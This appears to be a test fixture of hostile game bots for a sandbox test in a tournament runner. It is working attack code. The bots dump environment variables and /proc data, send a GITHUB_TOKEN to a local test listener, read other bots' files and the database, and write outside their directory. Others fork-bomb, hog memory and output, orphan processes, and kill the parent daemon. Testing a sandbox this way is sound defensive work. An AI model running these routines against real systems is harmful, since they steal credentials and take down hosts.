# Hostile forty-game bots for runner/sandbox/hostile_test.go. Each class is one attack, run by the
# pyclass harness in its own sandboxed process; the attack happens in make_throw, i.e. on
# the engine's "start" call. targets.json (written by the test into every bot's
# directory) names what the attacks aim at: host paths, the test's TCP port, its pid, and
# a marker that processes started here carry in their command line.
#
# Whatever an attack manages to read is appended to loot-* files in the bot's own
# directory; the test searches them for the secrets it planted.
import json
import os
import signal
import socket
import subprocess
import sys
import time


def _targets():
    with open("targets.json") as f:
        return json.load(f)


def _loot(kind, data):
    # Into the bot's directory when it is writable (the test then checks it for secrets);
    # Python-class bots get it read-only, so the loot goes to stderr, the only other way out.
    try:
        with open("loot-" + kind, "a", encoding="latin-1") as f:
            f.write(data + "\n")
    except OSError:
        sys.stderr.write(data[:200] + "\n")


class Honest(Bot):
    """The control: a well-behaved bot whose results must not suffer."""

    def make_throw(self, scores, last_round):
        yield True
        yield False


class EnvThief(Bot):
    """Reads the daemon's environment every way a process can."""

    def make_throw(self, scores, last_round):
        _loot("environ", json.dumps(dict(os.environ)))
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            for what in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (pid, what), "rb") as f:
                        _loot("proc", f.read().decode("latin-1"))
                except OSError:
                    pass
        yield True
        yield False


class NetCaller(Bot):
    """Phones home to the test's listener on 127.0.0.1."""

    def make_throw(self, scores, last_round):
        port = _targets()["port"]
        s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        s.sendall(b"token=" + os.environ.get("GITHUB_TOKEN", "").encode())
        yield True


class Snoop(Bot):
    """Reads another bot's files, the database and config.yaml."""

    def make_throw(self, scores, last_round):
        t = _targets()
        paths = list(t["secrets"]) + ["../victim/secret.txt", "../../kothd.db", "/proc/1/root" + t["secrets"][0]]
        last = None
        for p in paths:
            try:
                with open(p, "rb") as f:
                    _loot("snoop", f.read().decode("latin-1"))
            except OSError as e:
                last = e
        try:
            _loot("listing", repr(os.listdir(t["data_dir"])))
        except OSError as e:
            last = e
        raise last or RuntimeError("every read succeeded")
        yield True


class Vandal(Bot):
    """Writes outside its directory."""

    def make_throw(self, scores, last_round):
        last = None
        for p in _targets()["writes"]:
            try:
                with open(p, "w") as f:
                    f.write("pwned\n")
            except OSError as e:
                last = e
        raise last or RuntimeError("every write succeeded")
        yield True


class ForkBomb(Bot):
    """Forks forever, and so does every child, deaf to the harness's call timeout."""

    def make_throw(self, scores, last_round):
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            try:
                os.fork()
            except OSError:
                pass
        yield True


class Hog(Bot):
    """Allocates 4 GiB."""

    def make_throw(self, scores, last_round):
        hoard = bytearray(4 << 30)
        yield bool(hoard)


class Spinner(Bot):
    """Loops forever."""

    def make_throw(self, scores, last_round):
        while True:
            pass
        yield True


class Sleeper(Bot):
    """Sleeps forever."""

    def make_throw(self, scores, last_round):
        time.sleep(10 ** 9)
        yield True


class Flood(Bot):
    """Prints 1 GiB where the engine reads its answers (the harness's real stdout)."""

    def make_throw(self, scores, last_round):
        chunk = b"x" * (1 << 20)
        for _ in range(1024):
            os.write(4, chunk)  # fd 4: the harness's private copy of stdout
        yield True


class Chatter(Bot):
    """Prints 64 GiB with print(), which the harness routes to stderr."""

    def make_throw(self, scores, last_round):
        chunk = "x" * (1 << 20)
        for _ in range(64 << 10):
            print(chunk)
        yield True


class StdoutCloser(Bot):
    """Closes stdout (every descriptor, in fact) and keeps running, deaf to the harness's
    call timeout."""

    def make_throw(self, scores, last_round):
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        for fd in range(64):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            time.sleep(1)
        yield True


class Orphaner(Bot):
    """Leaves children behind that outlive it: one in a new session, one double-forked."""

    def make_throw(self, scores, last_round):
        marker = _targets()["marker"]
        subprocess.Popen(["sleep", marker + ".1"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", marker + ".2"])
            os._exit(0)
        os.waitpid(pid, 0)
        yield True
        yield False


class Parricide(Bot):
    """Kills its parent, then the daemon by its host pid."""

    def make_throw(self, scores, last_round):
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(_targets()["host_pid"], signal.SIGKILL)
        yield True
